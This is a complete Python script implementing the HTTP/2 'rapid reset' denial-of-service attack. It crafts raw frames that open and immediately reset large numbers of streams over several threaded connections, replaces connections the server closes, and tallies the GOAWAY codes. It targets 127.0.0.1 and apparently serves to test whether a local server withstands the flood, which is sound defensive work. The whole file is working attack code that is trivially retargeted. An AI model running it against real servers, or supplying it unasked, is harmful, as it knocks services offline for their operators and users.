#!/usr/bin/env python3
"""Opens HTTP/2 streams and resets them at once: rapid-reset.py PORT STREAMS SECONDS [CONNECTIONS]

Spread evenly over the time and over so many connections at once; one that the server ends is replaced by another. Prints how many
connections that took, and the codes of the GOAWAY frames by which they ended.
"""
import select
import socket
import struct
import sys
import threading
import time

PORT, STREAMS = int(sys.argv[1]), int(sys.argv[2])
SECONDS = float(sys.argv[3])
THREADS = int(sys.argv[4]) if len(sys.argv) > 4 else 4
BATCH = 50


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = field(b":method", b"GET") + field(b":scheme", b"http") + field(b":path", b"/reset") + field(b":authority", b"a")
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
began = time.monotonic()
gate = threading.Lock()
left, connections, goodbyes = STREAMS, 0, {}


def take():
    """The next ones, when they are due."""
    global left
    with gate:
        count = min(BATCH, left)
        left -= count
        due = began + SECONDS * (STREAMS - left) / STREAMS
    time.sleep(max(0, due - time.monotonic()))
    return count


def read(client, held):
    """What has come so far; whether the server has said goodbye."""
    while True:
        if not select.select([client], [], [], 0)[0]:
            return held, False
        more = client.recv(65536)
        if not more:
            raise ConnectionError
        held += more
        while len(held) >= 9 and len(held) >= 9 + int.from_bytes(held[:3], "big"):
            if held[3] == 7:
                code = int.from_bytes(held[13:17], "big")
                with gate:
                    goodbyes[code] = goodbyes.get(code, 0) + 1
                return held, True
            held = held[9 + int.from_bytes(held[:3], "big") :]


def attack():
    global connections
    count = take()
    while count:
        with gate:
            connections += 1
        with socket.create_connection(("127.0.0.1", PORT)) as client:
            client.settimeout(10)
            try:
                client.sendall(OPENING)
                stream, held, over = 1, b"", False
                while count and not over:
                    client.sendall(b"".join(
                        frame(1, 5, number, HEAD) + frame(3, 0, number, b"\0\0\0\x08") for number in range(stream, stream + 2 * count, 2)))
                    stream += 2 * count
                    count = take()
                    held, over = read(client, held)
            except OSError:
                continue


threads = [threading.Thread(target=attack) for _ in range(THREADS)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(f"  {STREAMS} streams opened and reset in {time.monotonic() - began:.1f} s over {connections} connections; GOAWAY by code: {goodbyes}")
